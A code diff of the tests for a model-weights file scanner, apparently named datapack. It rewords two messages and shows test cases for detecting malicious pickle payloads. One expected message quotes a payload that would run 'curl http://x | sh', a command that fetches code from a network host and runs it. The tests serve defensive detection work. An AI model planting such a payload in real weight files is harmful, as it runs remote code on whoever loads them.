@@ -81,7 +81,7 @@ FAULTS = [
         model() | {"m.safetensors": save({"w": ONE})[:-4]},
         "m.safetensors: the file is cut off: its tensors need",
     ),
-    ("DP601", model(facts=other(weights="m.bin")) | {"m.bin": b"abc"}, "m.bin: no file of weights that datapack knows"),
+    ("DP601", model(facts=other(weights="m.bin")) | {"m.bin": b"abc"}, "m.bin: no weights file that datapack knows"),
     ("DP602", {"m.pth": torch_zip({**VALUE, "x": EVIL}, ARRAYS)}, "m.pth would run os.system('curl http://x | sh')"),
     ("DP602", {"m.pt": torch_zip(module("a.B", VALUE), ARRAYS)}, "m.pt would run a.B(...)"),
     ("DP602", {"m.bin": pickle.dumps({"x": Evil()}, 0)}, "m.bin would run posix.mkdir('x')"),
@@ -147,7 +147,7 @@ def test_nothing_is_found_in_sound_weights(tmp_path, files):
 
 
 def test_a_web_page_has_one_finding(tmp_path):
-    """It is no file of weights at all, which another rule says."""
+    """It is no weights file at all, which another rule says."""
     assert list(find(tmp_path, model() | {"m.safetensors": b"<!DOCTYPE html><html>"})) == ["DP108"]
 
 
